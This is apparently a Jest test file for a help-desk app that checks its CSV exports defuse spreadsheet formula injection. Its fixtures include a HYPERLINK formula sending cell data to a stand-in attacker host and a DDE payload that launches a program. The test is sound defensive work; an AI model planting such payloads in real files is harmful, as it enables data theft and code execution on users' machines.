import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { DateTime } from 'luxon';
import { startDesk, type Desk } from '../support/desk.js';
import { http, inboundBody, login, signedInbound, storeWithAgent } from '../support/client.js';

/** RFC 4180 rows of cells of a CSV text (BOM removed). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = '';
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch !== '"') cell += ch;
      else if (text[i + 1] === '"') cell += text[++i];
      else quoted = false;
    } else if (ch === '"') {
      quoted = true;
    } else if (ch === ',') {
      row.push(cell);
      cell = '';
    } else if (ch === '\r' && text[i + 1] === '\n') {
      row.push(cell);
      rows.push(row);
      row = [];
      cell = '';
      i++;
    } else {
      cell += ch;
    }
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

/** A cell a spreadsheet would run: starts with = + - @, tab or CR, and is not a plain number. */
const runnable = (cell: string) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell);

describe('CSV exports', () => {
  let desk: Desk;
  let admin: string;
  let analyst: string;

  beforeAll(async () => {
    desk = await startDesk();
    admin = await login(desk.url, 'admin@demo.kefu');
    analyst = await login(desk.url, 'analyst@demo.kefu');
  });
  afterAll(() => desk.close());

  it('defuse formulas in every cell a user could have written: analytics exports and the client report alike', async () => {
    const s = await storeWithAgent(desk.url, admin, 'Formulas', { businessHours: null });
    const lastWeek = DateTime.now().setZone('Asia/Shanghai').startOf('week').minus({ weeks: 1 });
    const inbound = await signedInbound(desk.url, s.channel, { ...inboundBody('=HYPERLINK("http://evil.example/?"&A1,"x")', 'buyer-formula'), customer: { externalId: 'buyer-formula', name: '=cmd|\' /C calc\'!A0' } });
    const at = lastWeek.plus({ days: 2, hours: 10 });
    const t = await http(desk.url, 'POST', '/api/tickets', {
      token: s.agentToken,
      body: {
        conversationId: inbound.body.conversationId,
        type: 'return',
        cause: 'product_quality',
        customerReason: '+SUM(1,2)',
        orderRef: '@R-1',
        orderedAt: at.minus({ days: 5 }).toISO(),
        deliveredAt: at.minus({ days: 2 }).toISO(),
        items: [{ sku: '=1+2', name: '@SUM(A1:A9)', category: 'apparel', qty: 1, price: 100 }],
      },
    });
    expect(t.status).toBe(201);
    await desk.db.query(`UPDATE tickets SET created_at = $2 WHERE id = $1`, [t.body.id, at.toJSDate()]);
    const report = await http(desk.url, 'POST', `/api/reports/stores/${s.store.id}/generate?period=week`, { token: analyst });
    expect(report.status).toBe(201);

    const period = { from: lastWeek.toUTC().toISO()!, to: lastWeek.plus({ weeks: 1 }).toUTC().toISO()!, storeId: s.store.id };
    const exports = {
      'report csv': `/api/reports/${report.body.id}/csv`,
      'tickets.csv': `/api/analytics/tickets.csv?${new URLSearchParams(period)}`,
      'causes.csv by sku': `/api/analytics/causes.csv?${new URLSearchParams({ ...period, groupBy: 'sku' })}`,
    };
    for (const [name, path] of Object.entries(exports)) {
      const res = await http(desk.url, 'GET', path, { token: analyst });
      expect({ name, status: res.status }).toEqual({ name, status: 200 });
      const cells = parseCsv(res.body as string).flat();
      expect({ name, runnable: cells.filter(runnable) }).toEqual({ name, runnable: [] });
      // The text is kept, behind a leading apostrophe.
      expect({ name, kept: cells.some((c) => c.startsWith("'=1+2") || c.startsWith("'@SUM")) }).toEqual({ name, kept: true });
    }
  });
});
